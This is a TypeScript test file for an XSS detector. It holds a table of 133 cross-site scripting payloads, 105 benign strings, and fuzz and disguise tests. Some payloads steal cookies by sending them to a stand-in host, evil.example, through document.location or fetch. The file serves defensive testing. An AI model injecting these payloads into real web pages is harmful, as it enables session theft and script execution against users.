import { expect, test } from "vitest";
import fc from "fast-check";
import { detectXss } from "../../../src/sentinel/detect/index.ts";
import { SCRIPT_SIGNS } from "../../../src/sentinel/detect/script-signs.ts";

const attacks: readonly string[] = [
  "alert.apply(null, [1])",
  "confirm.call(null,1)",
  "Reflect.set.call`${location}${'href'}${name}`",
  "[1,2,3].with(0,alert).shift()(1)",
  "('alert(1)')()",
  "window['al'+'ert'](1)",
  "'ale'+'rt'()",
  "eval(a+b+c)",
  "eval(location.hash.slice(1))",
  "a&Tab;l&Tab;e&Tab;r&Tab;t(1)",
  "> src onerror=confirm(1)<",
  `[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]`,
  "<script>alert(1)</script>",
  "<ScRiPt >alert(1)</ScRiPt>",
  "<script src=//evil.example/x.js>",
  "<script/src=data:,alert(1)>",
  "<script\t>x</script>",
  "</script><script>x",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<img src=x onerror=alert(1)>",
  '<img src=x onerror="alert(1)"',
  '<img src="x" onerror = \'top["al"+"ert"](1)\'>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" onfocus=alert(1) autofocus="',
  "' autofocus onfocus=alert(1) x='",
  "x onmouseover=alert(1)",
  '" style="width:expression(alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  "<a href=javascript&colon;alert(1)>x",
  '<a href=" javascript:alert(1)">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="&lt;script>alert(1)&lt;/script>">',
  "<iframe/onload=alert(1)>",
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit>',
  "<button formaction=javascript:alert(1)>x",
  "<math><mtext><a href=javascript:alert(1)>x",
  '<base href="javascript:/a/+alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<body onload=alert(1)>",
  "<body/onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)>",
  '<video><source onerror="alert(1)">',
  "<audio src onloadstart=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select onfocus=alert(1) autofocus>",
  "<x onclick=alert(1)>x",
  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
  "<style>@import'//evil.example/x'</style>",
  '<div style="background:url(javascript:alert(1))">',
  '<div style="-moz-binding:url(//evil.example)">',
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "javascript://%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "vbscript:msgbox(1)",
  "';alert(1)//",
  '";alert(1)//',
  "'-alert(1)-'",
  '"-alert(1)-"',
  "'+alert(1)+'",
  "\\';alert(1)//",
  '\\");alert(1)//',
  "'});alert(1);//",
  "');alert(1)//",
  "alert(1)",
  "alert(document.cookie)",
  "alert`1`",
  "prompt(document.domain)",
  'confirm("x")',
  "eval(atob('YWxlcnQoMSk='))",
  "setTimeout('alert(1)')",
  "new Function('alert(1)')()",
  "[].constructor.constructor('alert(1)')()",
  "{{constructor.constructor('alert(1)')()}}",
  "top['al'+'ert'](1)",
  'window["alert"](1)',
  "self['ale'+'rt'](document.domain)",
  "document.location='//evil.example/?'+document.cookie",
  "';document.location='http://evil.example/'+document.cookie//",
  "'+document.cookie+'",
  "<img src=1 oNeRrOr=alert(1)>",
  "<img/src=1/onerror=alert(1)>",
  "<IMG SRC=x onerror\t=\talert(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
  '<a onmouseover="alert(document.cookie)">x</a>',
  '<table background="javascript:alert(1)">',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributename=href to=javascript:alert(1)>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>#x\">",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<%00script>alert(1)</script>",
  "<<script>alert(1)//<</script>",
  "<img src=x onerror=\\u0061lert(1)>",
  "<svg onload=alert&lpar;1&rpar;>",
  "<a href=\"//evil\" onclick=fetch('//evil?c='+document.cookie)>",
  '<input value="" onpointerrawupdate=alert(1)>',
  "\"><script>fetch('https://evil.example?c='+document.cookie)</script>",
  '\'"><img src=x onerror=fetch("//x")>',
  "<img src=x onerror=import('//evil.example')>",
  '<a href="javascript:void(0)" onclick="x()">',
  "\"onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<comment><img src="</comment><img src=x onerror=alert(1)//">',
  '<title><a href="</title><img src onerror=alert(1)>">',
  "<svg id=x onfocusin=alert(1) tabindex=0>",
  "<img onerror=\"location='javascript:alert(1)'\" src=x>",
  "<script>throw onerror=alert,1</script>",
  "onerror=alert;throw 1",
  "${alert(1)}",
  "<img src='x' onerror='alert(String.fromCharCode(88,83,83))'>",
  "String.fromCharCode(88,83,83)",
  "(alert)(1)",
  "[1].find(alert)",
  '<a href="https://x" style="animation:x" onanimationstart="alert(1)">',
  "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]",
  "<script>x",
];

const innocent: readonly string[] = [
  "please call or apply (in writing); alert me",
  "the print call (see page 5)",
  "((((((((((((((((((((((((((((((((((((((((((((((((",
  "!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!! (wow)",
  "> it is nice <",
  "I <3 this shop",
  "size <40> -- ok?",
  "Table lamp <mini>",
  "a < b and c > d",
  "<enter type here>",
  '<p>Soft &amp; warm.</p><ul><li>Cotton</li></ul><img src="https://cdn.shop.example/a.jpg" alt="x"><a href="/size-guide">Size guide</a>',
  "<b>bold</b> and <i>italic</i>",
  '<div class="product-description"><span style="color: red">Sale</span></div>',
  '<h2 style="text-align:center;background:url(https://x/y.png)">x</h2>',
  "JavaScript: The Good Parts",
  "JavaScript: The Definitive Guide (7th edition)",
  "javascript: the good parts",
  "JavaScript:The Good Parts",
  "on sale= $5",
  "online=true",
  "once=1",
  "one = two",
  "on = off",
  "onclick is an event",
  'price="5" online="yes"',
  "prompt (2 days) delivery",
  "alert(s)",
  "confirm (yes/no)",
  "Can you confirm this?",
  "Please alert me",
  "eval kit",
  'The script "Hamlet" is great',
  '"quoted", document follows',
  "'shop', location (near)",
  "window[1] seat",
  "top[0]",
  "window seat (2)",
  "at HTMLButtonElement.onclick (https://shop.example/cart:22:9)",
  "at eval (eval at <anonymous> (https://shop.example/a.js:1:1), <anonymous>:1:1)",
  "TypeError: document.body is null",
  "Cannot read properties of null (reading 'addEventListener')",
  "window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}",
  '{"onClick":"submit","data":"text"}',
  '{"type":"error","message":"Script error."}',
  "<3 <3 <3",
  "<-- look here",
  "--> next",
  "=> ok",
  ":) (: <:",
  "data: 5GB per month",
  "data:image/png;base64,iVBORw0KGgo=",
  "url=https://shop.example/javascript-book",
  "https://shop.example/search?q=javascript:book",
  "script kiddie tee",
  "manuscript: first draft",
  "Postscript: thanks!",
  "don't; alert the staff",
  '"it\'s great", confirm',
  'he said "prompt" (yes)',
  '<strong>Fast</strong> delivery; "prompt" and fair',
  "user@example.com <John O'Neil>",
  "John <john@example.com>",
  '"John Doe" <john@example.com>',
  "if (a < b) { c = d }",
  "for (i=0; i<n; i++) x(i);",
  "List<String> names = new ArrayList<>();",
  "std::vector<int> v;",
  "#include <stdio.h>",
  "<br>",
  "<br/>",
  '<hr style="border:1px">',
  '<a href="https://x.example/a?b=c&d=e">link</a>',
  '<a href="mailto:a@b.example">mail</a>',
  '<img src="data:image/png;base64,iVBO">',
  "<table><tr><td>1</td></tr></table>",
  '<?xml version="1.0"?><order><id>1</id></order>',
  "<movies><movie><title>PHP: Behind the Parser</title></movie></movies>",
  '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
  "on the house = free",
  "size=M&onsale=1",
  '5" x 7" on=white',
  "onset=early",
  '"only" = "one"',
  "((((()))))",
  "!!! [ok] (ok) !!!",
  "...!!!???",
  "☆☆☆☆☆",
  "[10 TO 20]",
  "C++ <=> C",
  'mutation { login(email: "x", password: "y") { token } }',
  "query { product(id: 1) { name } }",
  "Array.from",
  "Promise.reject",
  "${price}",
  "Set the location = home",
  "name = location",
  "document: cookie policy",
  "document.pdf",
  "cookie, domain",
  "object oriented <object> design",
  "link <link> text",
  "usage: foo <form> <input>",
  "<meta> tags matter",
  "<style> guide",
  "Olá <nome>, tudo bem?",
];

test("finds every attack of the table (133)", () => {
  expect(attacks).toHaveLength(133);
  expect(attacks.filter((value) => detectXss(value) === null)).toEqual([]);
});

test("signs of script hold in texts alone that have their words", () => {
  const held = attacks.flatMap((text) =>
    SCRIPT_SIGNS.filter(([, , expression]) => expression.test(text)).map(([name, words]) => ({
      name,
      text,
      words: words?.split(" ") ?? [""],
    })),
  );
  expect(held.length).toBeGreaterThan(50);
  const without = held.filter(({ text, words }) => !words.some((word) => text.toLowerCase().includes(word)));
  expect(without).toEqual([]);
});

test("leaves every innocent text of the table alone (105)", () => {
  expect(innocent).toHaveLength(105);
  expect(innocent.filter((value) => detectXss(value) !== null)).toEqual([]);
});

test("finds the attacks in any letter case", () => {
  expect(
    attacks.filter(
      (value) =>
        /^[\x20-\x7e]+$/.test(value) &&
        detectXss(value.toUpperCase()) === null &&
        !/\\u|&|%|base64/.test(value),
    ),
  ).toEqual([]);
});

test("never throws, whatever the bytes", () => {
  const bytes = fc.string({
    unit: fc.integer({ min: 0, max: 255 }).map((code) => String.fromCharCode(code)),
    maxLength: 400,
  });
  const pieces = fc.constantFrom(
    ...attacks,
    ...innocent,
    "'",
    '"',
    "(",
    ")",
    "<",
    ">",
    "=",
    "--",
    "/*",
    "*/",
    "#",
    "`",
    "[",
    " ",
    "&",
    "\\",
  );
  const shuffled = fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(fc.oneof(bytes, shuffled), (value) => {
      const found = detectXss(value);
      expect(found === null || found.length > 0).toBe(true);
    }),
    { numRuns: 2_000 },
  );
});

const CORE: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<iframe src=javascript:alert(1)>",
  "<x onclick=confirm(document.domain)>x",
];

const DISGUISES: readonly (readonly [name: string, disguise: (html: string) => string])[] = [
  ["slashes", (html) => html.replaceAll(" ", "/")],
  ["line breaks", (html) => html.replaceAll(" ", "\n")],
  ["form feeds", (html) => html.replaceAll(" ", "\x0c")],
  ["tabs around =", (html) => html.replaceAll("=", "\t=\t")],
  ["double quotes", (html) => html.replace(/=([^ >]+)/g, '="$1"')],
  ["single quotes", (html) => html.replace(/=([^ >]+)/g, "='$1'")],
  ["no end", (html) => html.replace(/>.*$/, "")],
  ["NUL bytes", (html) => html.replaceAll("<", "<\0")],
  [
    "entities",
    (html) => html.replace(/alert|confirm/g, (name) => `&#${name.charCodeAt(0)};${name.slice(1)}`),
  ],
  ["upper case", (html) => html.toUpperCase()],
  ["broken out of an attribute", (html) => `x">${html}`],
  ["in the middle of prose", (html) => `I like it ${html} very much`],
  ["behind a comment", (html) => `<!-- --><!--${html}`],
  ["padding", (html) => `${"<b>x</b> ".repeat(2_000)}${html}`],
];

test(`finds ${CORE.length * DISGUISES.length} disguised attacks`, () => {
  const all = DISGUISES.flatMap(([name, disguise]) => CORE.map((html) => ({ name, text: disguise(html) })));
  expect(all).toHaveLength(70);
  expect(all.filter(({ text }) => detectXss(text) === null)).toEqual([]);
});

test("a tag with the name of what every object has is a tag like others", () => {
  const names = Object.getOwnPropertyNames(Object.prototype);
  expect(names.length).toBeGreaterThan(5);
  for (const name of names) {
    expect(detectXss(`<${name} x=1>`)).toBeNull();
    expect(detectXss(`<a href="&${name};x">`)).toBeNull();
  }
});
